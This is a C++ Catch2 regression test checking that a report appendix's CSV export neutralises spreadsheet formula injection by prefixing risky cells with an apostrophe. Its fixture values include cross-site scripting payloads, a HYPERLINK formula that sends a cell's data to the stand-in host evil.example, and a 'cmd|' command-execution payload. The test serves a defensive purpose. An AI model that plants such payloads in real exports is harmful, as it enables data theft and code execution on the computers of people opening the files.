#include "pipeline/reports/appendix_format.h"

#include <catch2/catch.hpp>

#include <sstream>
#include <string>
#include <vector>

#include "tests/pipeline/reports/hostile_records.h"
#include "tests/pipeline/strict_csv.h"

namespace {

using returns::AppendixFormat;

const std::string kSelection = R"(theme "=x" <script>alert('selection')</script> & more)";

std::string Written(AppendixFormat format, std::vector<std::string> mark_themes = {}) {
  returns::AppendixOptions options;
  options.selection = kSelection;
  options.mark_themes = std::move(mark_themes);
  std::ostringstream out;
  returns::WriteAppendix(returns::test::HostileRecords(), options, format, out);
  return out.str();
}

}  // namespace

TEST_CASE("regression: an appendix CSV cell starting with '=', '+', '-', '@' or a tab is text to a spreadsheet",
          "[reports][appendix][csv][regression]") {
  const std::string csv = Written(AppendixFormat::kCsv);
  const returns::test::CsvCellRows rows = returns::test::ParseCsvCells(csv);
  const std::vector<returns::CommentRecord> records = returns::test::HostileRecords();
  REQUIRE(rows.size() == records.size() + 1);
  CHECK(csv.rfind("question,district,collaborative,lead_schools,return_id,position,heading,comment,themes\r\n", 0) == 0);
  for (size_t i = 1; i < rows.size(); ++i) {
    REQUIRE(rows[i].size() == 9);
    for (size_t c = 0; c < 9; ++c) {
      INFO("row " << i << ", cell " << c << ": " << rows[i][c].text);
      CHECK_FALSE(returns::test::SpreadsheetFormula(rows[i][c].text));
      CHECK(rows[i][c].quoted == (c != 0 && c != 5));  // all but the question and the position
    }
  }
  // In appendix order: Dover's two comments, then Thanet's, then Swale's (one section per question).
  CHECK(rows[1][1].text == "Dover <script>alert('district')</script>");
  CHECK(rows[1][2].text == R"~("><img src=x onerror="alert('collaborative')"> & Co)~");
  CHECK(rows[1][3].text == R"(St Mary's & St John's <b>CE</b>; =HYPERLINK("http://evil.example/","click"))");
  CHECK(rows[1][6].text == R"~(Priority 1 ' onmouseover='alert(1)' " onfocus="alert(2)")~");
  CHECK(rows[1][7].text == R"('=HYPERLINK("http://evil.example/?"&A1,"moderation report"))");
  CHECK(rows[2][7].text == "'+44 moderation <script>alert('text')</script> & a learning walk");
  CHECK(rows[3][1].text == "'-Thanet");
  CHECK(rows[3][2].text == "'@Group");
  CHECK(rows[3][3].text == "'+Plus School");
  CHECK(rows[3][7].text == "'-2+3+cmd|' /C calc'!A0 moderation");
  CHECK(rows[4][1].text == "'=Swale");
  CHECK(rows[4][7].text == "'\tTab first: plain <img src=x onerror=\"alert('img')\">");
  CHECK(rows[4][0].text == "4");
  CHECK(rows[4][5].text == "1");
}
